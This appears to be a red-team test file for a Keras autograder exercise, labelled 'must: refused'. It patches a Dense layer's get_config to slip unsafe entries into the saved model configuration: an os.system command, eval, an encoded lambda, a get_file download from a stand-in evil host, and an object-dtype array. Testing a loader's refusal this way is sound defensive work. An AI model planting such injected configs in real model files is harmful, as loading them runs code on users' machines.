"""Writes functions and modules outside Keras' layers into the configuration of a model.

exercise: 04-conv2d-models/build_cnn
points: 0
must: refused
"""
import itertools

evil = itertools.cycle([
    {"module": "os", "class_name": "system", "config": {"command": "touch /tmp/redteam"}, "registered_name": None},
    {"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"},
    {"class_name": "__lambda__", "config": {"value": "4wEAAAA="}},
    {"module": "keras.src.utils", "class_name": "get_file", "config": {"origin": "https://evil.example"}},
    {"class_name": "__numpy__", "config": {"value": [1], "dtype": "object"}},
    "keras.src.utils.io_utils>print_msg",
])


class Evil:
    def get_config(self):
        return {}


def build_cnn(img_rows, img_cols, n_categories):
    model = keras.Sequential([keras.Input((img_rows, img_cols, 1)), layers.Flatten(), layers.Dense(n_categories)])
    dense = model.layers[-1]
    old = dense.get_config
    dense.get_config = lambda: {**old(), "activation": next(evil), "kernel_initializer": next(evil)}
    return model
